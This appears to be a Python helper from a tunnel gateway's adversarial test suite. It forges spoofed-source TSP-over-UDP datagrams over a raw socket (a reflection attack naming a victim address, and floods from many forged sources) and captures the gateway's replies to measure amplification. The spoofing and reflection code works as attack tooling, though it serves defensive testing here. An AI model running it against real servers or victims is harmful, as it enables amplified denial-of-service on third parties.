#!/usr/bin/env python3
# SPDX-License-Identifier: BSD-2-Clause
"""Forged TSP-over-UDP datagrams and a capture of what the gateway sends,
for the adversarial tests (tests/adversarial/t_*.sh).

  spoof.py amp --server IP --victim IP:PORT [--headers N] [--replays N] --out FILE
      The reflection attack: VERSION, AUTHENTICATE ANONYMOUS and a create
      request forged from the victim, then N 8-byte datagrams repeating the
      create's sequence word, then N byte-identical copies of the create.
  spoof.py flood --server IP --kind version|auth --count N --net CIDR... --out FILE
      One datagram from each of N distinct forged (address, port) pairs.
  spoof.py refused --server IP --src IP --count N --out FILE
      N AUTHENTICATE datagrams forged from one address, distinct ports.
  spoof.py capture --dev DEV --seconds S --stop FILE --out FILE
      Count what leaves UDP port 3653 for the addresses behind DEV: packets,
      IP bytes (every fragment of a long reply), and per destination
      address; ends at S seconds or when FILE exists.

Forged packets go through a raw socket (IP_HDRINCL) with a zero UDP checksum
(allowed over IPv4). Only the standard library; every loop is bounded.
Results are JSON; byte counts are IP packet lengths (headers included).
"""
import argparse
import ipaddress
import json
import os
import socket
import struct
import sys
import time

TSP_PORT = 3653


def ip_udp(src, sport, dst, dport, payload):
    udp = struct.pack("!HHHH", sport, dport, 8 + len(payload), 0) + payload
    total = 20 + len(udp)
    # The kernel fills in the header checksum (and the id when it is 0).
    hdr = struct.pack("!BBHHHBBH4s4s", 0x45, 0, total, 0, 0, 64, socket.IPPROTO_UDP, 0,
                      socket.inet_aton(src), socket.inet_aton(dst))
    return hdr + udp


def tsp(seq, payload, ts=1):
    return struct.pack("!II", 0xF0000000 | seq, ts) + payload


def create_request(client_ipv4):
    # gogoc's layout (xml_req.c), as tests/broker/gogoc_sim.py sends it.
    lines = ['<tunnel action="create" type="v6udpv4" proxy="no">', ' <client>',
             '  <address type="ipv4">%s</address>' % client_ipv4,
             '  <keepalive interval="30">', '    <address type="ipv6">::</address>',
             '  </keepalive>', ' </client>', '</tunnel>']
    body = ("\r\n".join(lines) + "\r\n").encode()
    return b"Content-length: %d\r\n" % len(body) + body


class Sender:
    def __init__(self, server):
        self.server = server
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
        self.sock.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
        self.packets = 0
        self.bytes = 0

    def send(self, src, sport, payload):
        pkt = ip_udp(src, sport, self.server, TSP_PORT, payload)
        for _ in range(100):  # a full socket buffer: wait a little, bounded
            try:
                self.sock.sendto(pkt, (self.server, 0))
                break
            except BlockingIOError:
                time.sleep(0.001)
            except OSError as e:
                if e.errno != 105:  # ENOBUFS
                    raise
                time.sleep(0.001)
        self.packets += 1
        self.bytes += len(pkt)

    def result(self, **extra):
        r = {"packets": self.packets, "bytes": self.bytes}
        r.update(extra)
        return r


def cmd_amp(a):
    s = Sender(a.server)
    ip, port = a.victim.rsplit(":", 1)
    port = int(port)
    create = tsp(242, create_request(ip))
    s.send(ip, port, tsp(240, b"VERSION=2.0.2\r\n"))
    time.sleep(0.05)
    s.send(ip, port, tsp(241, b"AUTHENTICATE ANONYMOUS\r\n\0"))
    time.sleep(0.05)
    s.send(ip, port, create)
    time.sleep(0.1)
    for i in range(a.headers):  # the report's 8-byte replays
        s.send(ip, port, create[:8])
        time.sleep(a.gap)
    for i in range(a.replays):  # byte-identical retransmissions
        s.send(ip, port, create)
        time.sleep(a.gap)
    return s.result()


def sources(nets, count):
    hosts = []
    for n in nets:
        hosts += [str(h) for h in ipaddress.ip_network(n).hosts()]
    out = []
    port = 20000
    while len(out) < count and port < 65535:
        for h in hosts:
            out.append((h, port))
            if len(out) == count:
                break
        port += 1
    return out


def cmd_flood(a):
    s = Sender(a.server)
    if a.kind == "version":
        payload = tsp(240, b"VERSION=2.0.2\r\n")
    else:
        payload = tsp(241, b"AUTHENTICATE ANONYMOUS\r\n\0")
    gap = 1.0 / a.rate if a.rate else 0
    t0 = time.monotonic()
    for i, (h, p) in enumerate(sources(a.net, a.count)):
        s.send(h, p, payload)
        if gap:
            ahead = t0 + (i + 1) * gap - time.monotonic()
            if ahead > 0:
                time.sleep(ahead)
    return s.result(seconds=round(time.monotonic() - t0, 3))


def cmd_refused(a):
    s = Sender(a.server)
    for i in range(a.count):
        s.send(a.src, 30000 + i, tsp(241, b"AUTHENTICATE ANONYMOUS\r\n\0"))
        if a.gap:
            time.sleep(a.gap)
    return s.result()


def status_of(payload):
    """The TSP status (or 'CAP', 'empty', 'data') of a reply payload."""
    body = payload[8:]
    if not body:
        return "empty"
    if body.startswith(b"Content-length"):
        parts = body.split(b"\r\n", 2)
        body = parts[1] if len(parts) > 1 else b""
    if body.startswith(b"CAPABILITY"):
        return "CAP"
    word = body.split(b" ", 1)[0]
    return word.decode(errors="replace") if word.isdigit() else "data"


def count(r, dst, total):
    r["packets"] += 1
    r["bytes"] += total
    d = r["by_dst"].setdefault(dst, {"packets": 0, "bytes": 0})
    d["packets"] += 1
    d["bytes"] += total


def cmd_capture(a):
    ETH_P_IP = 0x0800
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(ETH_P_IP))
    sock.bind((a.dev, ETH_P_IP))
    sock.settimeout(0.1)
    r = {"packets": 0, "bytes": 0, "by_dst": {}, "status": {}, "offers": 0}
    replies = set()  # first fragments seen: their later fragments count too
    deadline = time.monotonic() + a.seconds
    open(a.ready, "w").close() if a.ready else None
    while time.monotonic() < deadline:
        if a.stop and os.path.exists(a.stop):
            break
        try:
            frame, addr = sock.recvfrom(65536)
        except socket.timeout:
            continue
        if addr[2] == socket.PACKET_OUTGOING:
            continue
        ip = frame
        if len(ip) < 28 or ip[0] >> 4 != 4 or ip[9] != socket.IPPROTO_UDP:
            continue
        ihl = (ip[0] & 15) * 4
        total = struct.unpack("!H", ip[2:4])[0]
        frag = struct.unpack("!H", ip[6:8])[0]
        key = (ip[12:20], ip[4:6])  # addresses and IP id: one datagram
        dst = socket.inet_ntoa(ip[16:20])
        if frag & 0x1FFF:
            # A later fragment of a reply (a long one, over the MTU):
            # its bytes count too; its payload has no UDP header.
            if key in replies:
                count(r, dst, total)
            continue
        sport = struct.unpack("!H", ip[ihl:ihl + 2])[0]
        if sport != TSP_PORT:
            continue
        if frag & 0x2000:  # more fragments follow
            replies.add(key)
        payload = ip[ihl + 8:total]
        count(r, dst, total)
        if b'<tunnel action="info"' in payload:
            r["offers"] += 1
        st = status_of(payload)
        r["status"][st] = r["status"].get(st, 0) + 1
    return r


def main():
    p = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    sub = p.add_subparsers(dest="cmd", required=True)
    a = sub.add_parser("amp")
    a.add_argument("--server", required=True)
    a.add_argument("--victim", required=True)
    a.add_argument("--headers", type=int, default=100)
    a.add_argument("--replays", type=int, default=20)
    a.add_argument("--gap", type=float, default=0.005)
    f = sub.add_parser("flood")
    f.add_argument("--server", required=True)
    f.add_argument("--kind", choices=["version", "auth"], required=True)
    f.add_argument("--count", type=int, required=True)
    f.add_argument("--net", action="append", required=True)
    f.add_argument("--rate", type=float, default=0, help="datagrams per second (0 = at once)")
    r = sub.add_parser("refused")
    r.add_argument("--server", required=True)
    r.add_argument("--src", required=True)
    r.add_argument("--count", type=int, required=True)
    r.add_argument("--gap", type=float, default=0.002)
    c = sub.add_parser("capture")
    c.add_argument("--dev", required=True)
    c.add_argument("--seconds", type=float, required=True)
    c.add_argument("--stop")
    c.add_argument("--ready")
    for sp in (a, f, r, c):
        sp.add_argument("--out", required=True)
    args = p.parse_args()
    res = {"amp": cmd_amp, "flood": cmd_flood, "refused": cmd_refused,
           "capture": cmd_capture}[args.cmd](args)
    with open(args.out + ".tmp", "w") as fh:
        json.dump(res, fh)
    os.rename(args.out + ".tmp", args.out)
    return 0


if __name__ == "__main__":
    sys.exit(main())
